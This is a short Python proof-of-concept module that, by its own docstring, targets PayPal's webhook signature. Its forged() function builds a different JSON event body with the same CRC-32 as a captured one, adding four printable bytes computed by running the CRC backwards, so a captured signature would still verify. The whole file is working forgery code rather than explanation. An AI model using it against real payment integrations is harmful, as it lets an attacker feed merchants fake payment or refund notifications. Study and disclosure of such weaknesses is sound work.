"""What PayPal's signature lets through: another body under the CRC-32 of one that was captured."""

import json
from zlib import crc32


def forged(event: dict[str, object], wanted: int) -> bytes:
    """Return the event as JSON with the CRC-32 that is wanted: four bytes of a string make up for all the rest."""
    end = wanted ^ 0xFFFFFFFF
    needed = _back(end, bytes(4) + b'"}')
    for number in range(100_000):
        begin = json.dumps(event | {"x": f"{number:06d}"}).encode()[:-2]
        patch = ((crc32(begin) ^ 0xFFFFFFFF) ^ needed).to_bytes(4, "little")
        if all(0x20 <= byte < 0x7F and byte not in b'"\\' for byte in patch):
            return begin + patch + b'"}'
    raise AssertionError


def _back(state: int, data: bytes) -> int:
    """Return the CRC's state before the data, of that after it."""
    for byte in reversed(data):
        index = next(n for n in range(256) if _TABLE[n] >> 24 == state >> 24)
        state = ((state ^ _TABLE[index]) << 8) & 0xFFFFFFFF | (index ^ byte)
    return state


def _entry(value: int) -> int:
    for _ in range(8):
        value = (value >> 1) ^ (0xEDB88320 if value & 1 else 0)
    return value


_TABLE = [_entry(number) for number in range(256)]
